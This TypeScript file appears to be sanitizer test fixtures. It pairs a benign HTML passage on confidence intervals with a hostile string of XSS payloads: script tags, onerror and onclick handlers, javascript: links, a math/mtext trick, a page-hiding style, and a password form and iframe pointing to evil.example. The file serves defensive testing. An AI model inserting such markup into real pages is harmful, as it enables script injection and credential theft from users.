const interval = (index: number) => {
  const [x, from, to] = [45 + index * 50, 30 + ((index * 37) % 50), 110 + ((index * 53) % 50)];
  return `<line x1="${x}" x2="${x}" y1="${from}" y2="${to}" stroke="currentColor" stroke-width="2"></line>`;
};
const figure = [
  '<svg viewBox="0 0 640 180" role="img" aria-label="Twelve intervals; one misses the mean">',
  '<line x1="20" x2="620" y1="90" y2="90" stroke="currentColor" stroke-dasharray="4"></line>',
  ...Array.from({ length: 12 }, (_, index) => interval(index)),
  '</svg>',
].join('');

/** A text as an author writes it. */
export const authorText =
  '<p>Suppose the same trial were run a hundred times, each time with new patients from the same ' +
  'population. You would get a hundred estimates and a hundred intervals around them. A 95 % confidence ' +
  'interval is a promise about that procedure: about ninety-five of the hundred will contain the true ' +
  'value.<sup><a href="#note-1" id="ref-1">1</a></sup></p>\n' +
  '<p>The one interval on your desk either contains it or does not, and nothing in the paper tells you ' +
  'which. The confidence lies in the method, not in the single result.</p>\n' +
  `<figure>${figure}<figcaption>Figure 4.2. Twelve samples of 40 patients from one population. The dashed ` +
  'line is the true mean.</figcaption></figure>\n' +
  '<blockquote>All models are wrong but some are useful.<footer>George Box, 1979</footer></blockquote>\n' +
  '<h2>Writing it in a report</h2>\n' +
  '<p>Give the estimate first, then the interval, then what it means for the patient in front of you. A ' +
  'reader who sees only a <i>p</i> value cannot tell a small certain effect from a large doubtful one. ' +
  'More in <a href="https://example.org/gardner">Gardner and Altman</a>.</p>\n' +
  '<table><caption>How the width of an interval changes</caption><thead><tr><th>Patients</th><th>Width</th>' +
  '</tr></thead><tbody><tr><td>40</td><td>12.1</td></tr><tr><td>160</td><td>6.0</td></tr></tbody></table>\n' +
  '<p id="note-1">1. Strictly, over many repetitions. <a href="#ref-1">Back</a></p>';

/** Hostile markup that an attacker could have an author write. */
export const hostileText =
  '<p onclick="top.hacked=1">Before <script>top.hacked=1</script><img src="x" onerror="top.hacked=1"><a ' +
  'href="javascript:top.hacked=1">a link</a></p>\n' +
  '<style>* { display: none !important }</style><form action="https://evil.example"><input name="password">' +
  '<button>Sign in</button></form><iframe src="https://evil.example"></iframe>\n' +
  '<svg><a xlink:href="javascript:top.hacked=1"><text y="20">svg</text></a><script>top.hacked=1</script>' +
  '</svg><math><mtext><img src=x onerror=top.hacked=1></mtext></math>\n' +
  `<div class="btn filled" data-route='{"name":"forbidden"}' style="position:fixed;inset:0" ` +
  'part="dialog">After</div><a href="#x" data-route="not json">trap</a>';
